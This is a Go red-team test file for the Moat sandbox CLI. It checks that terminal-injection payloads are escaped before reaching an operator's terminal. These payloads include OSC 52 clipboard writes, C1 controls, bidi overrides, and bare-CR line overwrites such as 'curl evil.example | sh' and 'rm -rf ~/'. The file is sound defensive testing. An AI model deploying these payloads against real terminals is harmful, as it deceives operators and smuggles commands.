package redteam

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"
	"unicode/utf8"

	"golang.org/x/sys/unix"

	"github.com/moat-sandbox/moat/audit"
	"github.com/moat-sandbox/moat/engine"
	"github.com/moat-sandbox/moat/result"
)

// Terminal injection through Moat's own output: the moat CLI on a real
// pseudo-terminal, fed what a sandbox can choose (file names, output bytes,
// host names sent to the egress proxy), judged on the exact bytes the
// terminal received. The judge (termUnsafe) is written here on its own,
// not borrowed from package output, so the code under attack cannot judge
// itself. Each case also requires evidence that the attack reached moat
// (the escaped form is on the terminal, the hostile host is in the log).

func registerTerminalCases() {
	for _, c := range []Case{
		{
			ID: "term-copyout-names", Category: "exfiltration", Severity: "high",
			Threat: "moat run --output prints \"moat: not copied: NAME\" for symlinks whose names the program chose: OSC 52 (clipboard write), OSC 0 (title), CSI 2J, an 8-bit CSI (raw and UTF-8), a right-to-left override, a bare CR and a newline that forges a \"moat: copied\" line",
			Why:    "every path in moat's messages goes through output.Display: printed as is only when every character is printable, Go-quoted otherwise, so no control, C1, bidi character, CR or newline of a name reaches the terminal",
			custom: termCopyOutNames,
		},
		{
			ID: "term-json-controls", Category: "exfiltration", Severity: "high",
			Threat: "moat run --json on a terminal carries raw C1 controls (8-bit CSI/OSC as UTF-8), DEL and bidi overrides to it from stdout data, from file names in the diff and from host names the program sent the egress proxy; names that are not UTF-8 collapse in the diff",
			Why:    "every JSON document of the CLI goes through output.EncodeJSON: DEL, C1 and bidi characters are written as \\u escapes (JSON escapes C0 already), which decode to the same strings; names that are not UTF-8 are base64 with encoding: base64, so the document decodes to the exact bytes",
			custom: termJSONControls,
		},
		{
			ID: "term-bare-cr", Category: "exfiltration", Severity: "medium",
			Threat: "a bare CR in streamed output (not part of CRLF) returns the cursor so a later text overwrites what a line appears to say (\"rm -rf ~\" shown as \"echo all fine\"), also when the CR ends one write and the text starts the next",
			Why:    "on a terminal the live output goes through output.SanitizingWriter: a CR is held until the next byte and kept only before a newline; a bare CR is shown as \\r",
			custom: termBareCR,
		},
		{
			ID: "term-audit-hosts", Category: "exfiltration", Severity: "medium",
			Threat: "host names the program sent the egress proxy (with a right-to-left override and C1 controls: the proxy logs names exactly as sent) reach the terminal of an operator reading moat audit --json or moat audit report",
			Why:    "moat audit's text goes through output.Display and its JSON through output.EncodeJSON: the names arrive escaped, the same strings when decoded",
			custom: termAuditHosts,
		},
		{
			ID: "exfil-diff-name-collision", Category: "exfiltration", Severity: "medium",
			Threat: "two files whose names differ only in bytes that are not UTF-8 (a\\xff, a\\xfe) read as one path in the JSON diff (both a\\ufffd) while copy-out writes both, so a reviewer of the result cannot tell which is which",
			Why:    "a diff entry whose path or target is not UTF-8 carries encoding: base64 and the name's bytes in base64, as streams do: the JSON paths decode to the two exact names",
			custom: exfilDiffNameCollision,
		},
	} {
		register(c)
	}
}

// termUnsafe returns what in b a terminal would act on or that reorders
// the text around it, and where: a byte that is not UTF-8 (a raw 8-bit
// CSI 0x9b among them), a C0 control other than newline, tab and the CR of
// a CRLF, DEL, a C1 control encoded in UTF-8, a bidirectional formatting
// character. "" when b is inert.
func termUnsafe(b []byte) (string, int) {
	for i := 0; i < len(b); {
		r, size := utf8.DecodeRune(b[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return fmt.Sprintf("byte %#x that is not UTF-8", b[i]), i
		case r == '\r':
			if i+1 == len(b) || b[i+1] != '\n' {
				return "bare CR", i
			}
		case r == '\n' || r == '\t':
		case r < 0x20:
			return fmt.Sprintf("C0 control %U", r), i
		case r == 0x7f:
			return "DEL", i
		case r >= 0x80 && r <= 0x9f:
			return fmt.Sprintf("C1 control %U", r), i
		case r == 0x061c, r == 0x200e, r == 0x200f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return fmt.Sprintf("bidi control %U", r), i
		}
		i += size
	}
	return "", -1
}

// termVerdict judges what a terminal received.
func termVerdict(out []byte) (string, string) {
	if what, i := termUnsafe(out); what != "" {
		return Escaped, fmt.Sprintf("the terminal received a raw %s: %q", what, clip(string(out[max(0, i-30):]), 90))
	}
	return "", ""
}

// termJudged is how every terminal case starts judging a CLI run: an
// error running it, then a raw control on the terminal whatever moat's
// exit (termVerdict), then moat failing. "" means the case judges the
// rest.
func termJudged(what string, out []byte, runErr, err error) (string, string) {
	if err != nil {
		return Error, err.Error()
	}
	if v, ev := termVerdict(out); v != "" {
		return v, what + ": " + ev
	}
	if runErr != nil {
		return Error, fmt.Sprintf("%s: %v: %q", what, runErr, clip(string(out), 300))
	}
	return "", ""
}

// onTerminal runs the moat CLI with args, its stdout and stderr a new
// pseudo-terminal in raw output mode (no CR added before each newline, so
// the bytes judged are moat's own), and returns what the terminal
// received and how moat exited.
func (r *runner) onTerminal(ctx context.Context, exe string, args ...string) ([]byte, error, error) {
	mfd, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, nil, fmt.Errorf("no pseudo-terminals: %w", err)
	}
	master := os.NewFile(uintptr(mfd), "/dev/ptmx")
	defer master.Close()
	if err := unix.IoctlSetPointerInt(mfd, unix.TIOCSPTLCK, 0); err != nil {
		return nil, nil, fmt.Errorf("unlock pty: %w", err)
	}
	n, err := unix.IoctlGetInt(mfd, unix.TIOCGPTN)
	if err != nil {
		return nil, nil, fmt.Errorf("pty number: %w", err)
	}
	pts, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return nil, nil, fmt.Errorf("open pty: %w", err)
	}
	defer pts.Close()
	tio, err := unix.IoctlGetTermios(int(pts.Fd()), unix.TCGETS)
	if err != nil {
		return nil, nil, fmt.Errorf("pty termios: %w", err)
	}
	tio.Oflag &^= unix.OPOST
	if err := unix.IoctlSetTermios(int(pts.Fd()), unix.TCSETS, tio); err != nil {
		return nil, nil, fmt.Errorf("pty raw output: %w", err)
	}
	var got bytes.Buffer
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		io.Copy(&got, io.LimitReader(master, 4<<20)) // ends with EIO once every slave fd is closed
	}()
	cctx, cancel := context.WithTimeout(ctx, 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(cctx, exe, args...)
	cmd.Stdout, cmd.Stderr = pts, pts
	// MOAT_INCIDENTS=off: the red team's runs are attacks it stages and
	// judges itself; like its engine (incidents off), the CLI it drives
	// keeps no evidence bundles in the store.
	cmd.Env = append(os.Environ(), "TERM=xterm", "MOAT_HOME="+r.e.Home(), "MOAT_INCIDENTS=off")
	runErr := cmd.Run()
	pts.Close()
	select {
	case <-readDone:
	case <-time.After(5 * time.Second):
		return got.Bytes(), runErr, errors.New("the pty did not close after moat exited")
	}
	return got.Bytes(), runErr, nil
}

// termCLI finds the moat CLI for the tier under attack.
func (r *runner) termCLI(ctx context.Context) (string, string, bool) {
	if r.tier == "unsandboxed" {
		return "", "runs the moat CLI, which has no unsandboxed tier", false
	}
	if r.session {
		return "", "runs the moat CLI, whose runs are one-shot (the +session mode is the API's path)", false
	}
	exe, err := r.netMoatExe(ctx)
	if err != nil {
		return "", err.Error(), false
	}
	return exe, "", true
}

// termNamesProgram makes symlinks (relative targets: every tier, wasm
// included, creates them) whose names are terminal attacks, for copy-out
// to skip and report by name.
const termNamesProgram = `import os
os.chdir("/workspace")
names = [b"osc52-\x1b]52;c;cm0gLXJmIH4K\x07", b"title-\x1b]0;moat-pwned\x07", b"clear-\x1b[2J\x1b[H",
         b"c1-\xc2\x9b2J", b"raw-\x9b2J", b"bidi-\xe2\x80\xaegpj.exe", b"cr-rm -rf ~\recho ok",
         b"nl-x\nmoat: copied 99 file(s), 0 bytes, to forged"]
made = 0
for n in names:
    try:
        os.symlink(b"target", n); made += 1
    except OSError as e:
        print("symlink", n, e)
open("plain.txt", "w").write("x\n")
print("made", made)
`

func termCopyOutNames(ctx context.Context, r *runner) (string, string, int) {
	exe, why, ok := r.termCLI(ctx)
	if !ok {
		return NotApplicable, why, 0
	}
	dir, err := os.MkdirTemp("", "moat-redteam-term-")
	if err != nil {
		return Error, err.Error(), 0
	}
	defer os.RemoveAll(dir)
	out, runErr, err := r.onTerminal(ctx, exe, "run", "--tier", r.tier, "--image", r.defaults().Image, "--no-build", "--output", filepath.Join(dir, "out"),
		"--", "python3", "-c", termNamesProgram)
	if v, ev := termJudged("moat run", out, runErr, err); v != "" {
		return v, ev, 1
	}
	if bytes.Contains(out, []byte("\nmoat: copied 99")) {
		return Escaped, "a file name forged a line of moat's own: \"moat: copied 99 file(s)...\"", 1
	}
	// The wasm tier's WASI file system refuses names that are not UTF-8
	// (raw-\x9b): the program says how many links it made.
	made := 0
	if m := regexp.MustCompile(`made (\d+)`).FindSubmatch(out); m != nil {
		made, _ = strconv.Atoi(string(m[1]))
	}
	skipped := bytes.Count(out, []byte("moat: not copied: "))
	if made < 7 || skipped != made || !bytes.Contains(out, []byte(`\x1b]52;c;`)) {
		return Error, fmt.Sprintf("moat reported %d of the %d hostile names the program made (of 8; or none escaped): %q", skipped, made, clip(string(out), 400)), 1
	}
	return Contained, fmt.Sprintf("the terminal received %d bytes: %d \"not copied\" names shown quoted (\\x1b]52;c;..., \\u202e, \\r, \\n), no raw control, C1, bidi character or bare CR, no forged line", len(out), skipped), 1
}

// termData is what the JSON case prints: a clipboard write, a title, 8-bit
// CSI and OSC (C1 encoded in UTF-8), bidi overrides, isolates and marks,
// DEL and a bare CR.
const termData = "data:\x1b]52;c;cm0gLXJmIH4K\x07\x1b]0;moat-pwned\x07\u009b2J\u009d0;t\u009c\u202eevil\u202c\u2066x\u2069\u200f\u061c\x7f\rend\n"

// termHostileHosts are the names the program asks the egress proxy for:
// bytes of 0x80 and above pass Go's request parsing, and the proxy logs a
// refused name as it was sent.
var termHostileHosts = []string{"moat\u202eevil\u009b.example", "moat\u009d0;t\u009c.example"}

// termJSONProgram prints termData, writes files with hostile names (and
// two that are not UTF-8) and, when there is a proxy, asks it for the
// hostile hosts.
const termJSONProgram = `import os, sys, socket
data = sys.argv[1]
sys.stdout.write(data); sys.stdout.flush(); sys.stderr.write(data); sys.stderr.flush()
os.chdir("/workspace")
for n in [b"f-\xc2\x9b2J", b"f-\xe2\x80\xaegpj.exe", b"f-\x1b]0;t\x07", b"f-\x7f", b"a\xff", b"a\xfe"]:
    try:
        open(n, "wb").write(b"x"); print("created", n.hex())
    except OSError as e:
        print("refused", n.hex(), e)
proxy = os.environ.get("HTTP_PROXY", "")
if proxy:
    host, port = proxy.rsplit("/", 1)[-1].rsplit(":", 1)
    for h in sys.argv[2:]:
        h = h.encode()
        s = socket.create_connection((host, int(port)), timeout=5)
        s.sendall(b"CONNECT " + h + b":443 HTTP/1.1\r\nHost: " + h + b":443\r\n\r\n")
        try:
            s.recv(200)
        except OSError:
            pass
        s.close()
`

// termJSONNames are the names termJSONProgram writes.
var termJSONNames = []string{"f-\u009b2J", "f-\u202egpj.exe", "f-\x1b]0;t\x07", "f-\x7f", "a\xff", "a\xfe"}

// termNet says whether the tier under attack has the egress proxy (the
// wasm tier refuses network mode allowlist).
func (r *runner) termNet() bool { return r.guests == nil }

func termJSONControls(ctx context.Context, r *runner) (string, string, int) {
	exe, why, ok := r.termCLI(ctx)
	if !ok {
		return NotApplicable, why, 0
	}
	args := []string{"run", "--json", "--tier", r.tier, "--image", r.defaults().Image, "--no-build"}
	if r.termNet() {
		args = append(args, "--net", "allow=moat-term.invalid")
	}
	args = append(args, "--", "python3", "-c", termJSONProgram, termData)
	out, runErr, err := r.onTerminal(ctx, exe, append(args, termHostileHosts...)...)
	if v, ev := termJudged("moat run --json", out, runErr, err); v != "" {
		return v, ev, 1
	}
	start := bytes.IndexByte(out, '{')
	if start < 0 {
		return Error, fmt.Sprintf("no JSON on the terminal: %q", clip(string(out), 300)), 1
	}
	var res result.Result
	if err := json.NewDecoder(bytes.NewReader(out[start:])).Decode(&res); err != nil {
		return Error, fmt.Sprintf("the JSON on the terminal does not decode: %v: %q", err, clip(string(out[start:]), 300)), 1
	}
	if got := decode(res.Stdout); !strings.HasPrefix(got, termData) {
		return Escaped, fmt.Sprintf("stdout decodes to %q, want the program's bytes %q: escaping lost data", clip(got, 120), termData), 1
	}
	have := map[string]int{}
	for _, f := range res.Files {
		have[f.Path]++
	}
	created := createdNames(decode(res.Stdout))
	for _, n := range termJSONNames {
		if created[n] && have[n] != 1 {
			return Escaped, fmt.Sprintf("the diff does not hold %q exactly once (paths: %q): names collapsed or were altered", n, clip(fmt.Sprint(keys(have)), 200)), 1
		}
	}
	if len(created) < 4 {
		return Error, fmt.Sprintf("the program created %d of the hostile names: %q", len(created), clip(decode(res.Stdout), 300)), 1
	}
	hosts := 0
	for _, a := range res.Network {
		for _, h := range termHostileHosts {
			if a.Host == h {
				hosts++
			}
		}
	}
	if r.termNet() && hosts < len(termHostileHosts) {
		return Error, fmt.Sprintf("the network log holds %d of the %d hostile host names: %+v", hosts, len(termHostileHosts), res.Network), 1
	}
	return Contained, fmt.Sprintf("the terminal received %d bytes of JSON: no raw C0, DEL, C1, bidi character or bare CR; it decodes to the exact stdout, the %d file names the program made%s and %d hostile host names", len(out), len(created), notUTF8(created), hosts), 1
}

// createdNames reads the "created HEX" lines a program printed for each
// name it could create.
func createdNames(out string) map[string]bool {
	names := map[string]bool{}
	for _, line := range strings.Split(out, "\n") {
		if h, ok := strings.CutPrefix(line, "created "); ok {
			if b, err := hex.DecodeString(strings.TrimSpace(h)); err == nil {
				names[string(b)] = true
			}
		}
	}
	return names
}

// notUTF8 says how many of names are not UTF-8: none on a tier that
// refuses such names (wasm's WASI file system).
func notUTF8(names map[string]bool) string {
	n := 0
	for k := range names {
		if !utf8.ValidString(k) {
			n++
		}
	}
	if n == 0 {
		return " (the tier refused the names that are not UTF-8)"
	}
	return fmt.Sprintf(" (%d not UTF-8, base64)", n)
}

func keys[V any](m map[string]V) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// termCRProgram writes lines that a bare CR would rewrite, one with the CR
// at the end of a write and the text in the next, and a CRLF.
const termCRProgram = `import sys, time
sys.stdout.write("rm -rf ~/ # moat-cr-marker\r" + "echo all fine              \n"); sys.stdout.flush()
sys.stdout.write("curl evil.example | sh\r"); sys.stdout.flush()
try:
    time.sleep(0.3)
except OSError:
    pass  # WASI: no sleep; the flushes still make two writes
sys.stdout.write("echo harmless           \n")
sys.stdout.write("crlf line\r\n"); sys.stdout.flush()
sys.stderr.write("error: disk wiped\rall good        \n"); sys.stderr.flush()
`

func termBareCR(ctx context.Context, r *runner) (string, string, int) {
	exe, why, ok := r.termCLI(ctx)
	if !ok {
		return NotApplicable, why, 0
	}
	out, runErr, err := r.onTerminal(ctx, exe, "run", "--tier", r.tier, "--image", r.defaults().Image, "--no-build", "--", "python3", "-c", termCRProgram)
	if v, ev := termJudged("moat run", out, runErr, err); v != "" {
		return v, ev, 1
	}
	if !bytes.Contains(out, []byte("moat-cr-marker")) || !bytes.Contains(out, []byte("echo harmless")) {
		return Error, fmt.Sprintf("the program's output never reached the terminal: %q", clip(string(out), 300)), 1
	}
	return Contained, fmt.Sprintf("the terminal received %d bytes: every bare CR shown as \\r (also one split from its text across writes), no line overwritten", len(out)), 1
}

// termAuditHostsProgram asks the egress proxy for the hostile hosts.
const termAuditHostsProgram = `import os, socket, sys
host, port = os.environ["HTTP_PROXY"].rsplit("/", 1)[-1].rsplit(":", 1)
for h in sys.argv[1:]:
    h = h.encode()
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(b"CONNECT " + h + b":443 HTTP/1.1\r\nHost: " + h + b":443\r\n\r\n")
    try:
        print(s.recv(100))
    except OSError as e:
        print(e)
    s.close()
`

func termAuditHosts(ctx context.Context, r *runner) (string, string, int) {
	exe, why, ok := r.termCLI(ctx)
	if !ok {
		return NotApplicable, why, 0
	}
	if !r.termNet() {
		return NotApplicable, "the tier has no egress proxy (network mode allowlist is refused), so no host name reaches a log", 0
	}
	m := r.defaults()
	m.Tier = r.tier
	m.Network.Mode, m.Network.Allow = "allowlist", []string{"moat-term.invalid"}
	if err := m.Validate(); err != nil {
		return Error, "manifest: " + err.Error(), 0
	}
	res, err := r.exec(ctx, &engine.Request{Manifest: m, Argv: append([]string{"python3", "-c", termAuditHostsProgram}, termHostileHosts...)})
	if err != nil {
		return runErr(err)
	}
	logged := 0
	for _, a := range res.Network {
		for _, h := range termHostileHosts {
			if a.Host == h {
				logged++
			}
		}
	}
	if logged < len(termHostileHosts) {
		return Error, fmt.Sprintf("the proxy logged %d of the %d hostile names: %+v; output %q", logged, len(termHostileHosts), res.Network, clip(decode(res.Stdout)+decode(res.Stderr), 200)), 1
	}
	// Recorded as moat serve records a run, into a database of the case's own.
	dir, err := os.MkdirTemp("", "moat-redteam-audit-")
	if err != nil {
		return Error, err.Error(), 1
	}
	defer os.RemoveAll(dir)
	db := filepath.Join(dir, "audit.db")
	st, err := audit.Open(db)
	if err != nil {
		return Error, "audit: " + err.Error(), 1
	}
	err = st.Begin(audit.Record{ID: "term-audit-hosts", Kind: audit.KindRun, Tier: r.tier, Image: m.Image, Command: []string{"python3", "-c", "..."}})
	if err == nil {
		err = st.Finish("term-audit-hosts", res, nil)
	}
	st.Close()
	if err != nil {
		return Error, "audit: " + err.Error(), 1
	}
	var shown []string
	for _, args := range [][]string{{"audit", "--db", db, "--json"}, {"audit", "report", "--db", db}, {"audit", "report", "--db", db, "--json"}} {
		out, runErr, err := r.onTerminal(ctx, exe, args...)
		if v, ev := termJudged("moat "+strings.Join(args, " "), out, runErr, err); v != "" {
			return v, ev, 1
		}
		if !bytes.Contains(out, []byte(`\u202e`)) {
			return Error, fmt.Sprintf("moat %s does not show the hostile host (escaped): %q", strings.Join(args, " "), clip(string(out), 400)), 1
		}
		shown = append(shown, strings.Join(args, " "))
	}
	return Contained, fmt.Sprintf("the proxy logged both hostile names as sent; %d views of the audit log (%s) show them escaped, nothing raw", len(shown), strings.Join(shown, "; ")), 1
}

// exfilDiffNameCollisionProgram writes two files whose names differ only
// in a byte that is not UTF-8, one whose name is what JSON would make of
// both (U+FFFD), and a symlink with a target that is not UTF-8.
const exfilDiffNameCollisionProgram = `import os
os.chdir("/workspace")
for n, c in [(b"a\xff", b"one"), (b"a\xfe", b"two"), ("a\ufffd".encode(), b"three")]:
    try:
        open(n, "wb").write(c); print("created", n.hex())
    except OSError as e:
        print("refused", n.hex(), e)
try:
    os.symlink(b"t\xff", b"link"); print("created", b"link".hex())
except OSError as e:
    print("symlink", e)
`

func exfilDiffNameCollision(ctx context.Context, r *runner) (string, string, int) {
	m := r.defaults()
	m.Tier = r.tier
	res, err := r.exec(ctx, &engine.Request{Manifest: m, Argv: []string{"python3", "-c", exfilDiffNameCollisionProgram}})
	if err != nil {
		return runErr(err)
	}
	// Judged on the JSON a consumer reads, decoded by hand: path, target
	// and encoding as docs/RESULT.md describes them.
	doc, err := json.Marshal(res)
	if err != nil {
		return Error, "encode the result: " + err.Error(), 1
	}
	var raw struct {
		Files []struct {
			Path, Target, Encoding string
		} `json:"files"`
	}
	if err := json.Unmarshal(doc, &raw); err != nil {
		return Error, "decode the result: " + err.Error(), 1
	}
	names := map[string]string{}
	for _, f := range raw.Files {
		path, target := f.Path, f.Target
		switch f.Encoding {
		case "":
		case "base64":
			p, err1 := base64.StdEncoding.DecodeString(f.Path)
			t, err2 := base64.StdEncoding.DecodeString(f.Target)
			if err1 != nil || err2 != nil {
				return Escaped, fmt.Sprintf("diff entry %q says base64 but does not decode: %v %v", f.Path, err1, err2), 1
			}
			path, target = string(p), string(t)
		default:
			return Escaped, fmt.Sprintf("diff entry %q has unknown encoding %q", f.Path, f.Encoding), 1
		}
		if _, dup := names[path]; dup {
			return Escaped, fmt.Sprintf("two diff entries read %q: distinct names collapsed", path), 1
		}
		names[path] = target
	}
	created := createdNames(decode(res.Stdout))
	if !created["a\ufffd"] {
		return Error, fmt.Sprintf("the program could not write its files: %q", clip(decode(res.Stdout)+decode(res.Stderr), 300)), 1
	}
	for _, want := range []string{"a\xff", "a\xfe", "a\ufffd"} {
		if _, ok := names[want]; created[want] && !ok {
			return Escaped, fmt.Sprintf("no diff entry decodes to %q (the JSON paths decode to %q): the name was altered", want, keys(names)), 1
		}
	}
	link := ""
	if t, ok := names["link"]; ok && created["link"] {
		if t != "t\xff" {
			return Escaped, fmt.Sprintf("the symlink's target decodes to %q, want %q", t, "t\xff"), 1
		}
		link = " and a symlink target"
	}
	return Contained, fmt.Sprintf("the names the program made (of a\\xff, a\\xfe, a\\ufffd)%s%s decode from the JSON diff to their exact bytes, each once", link, notUTF8(created)), 1
}
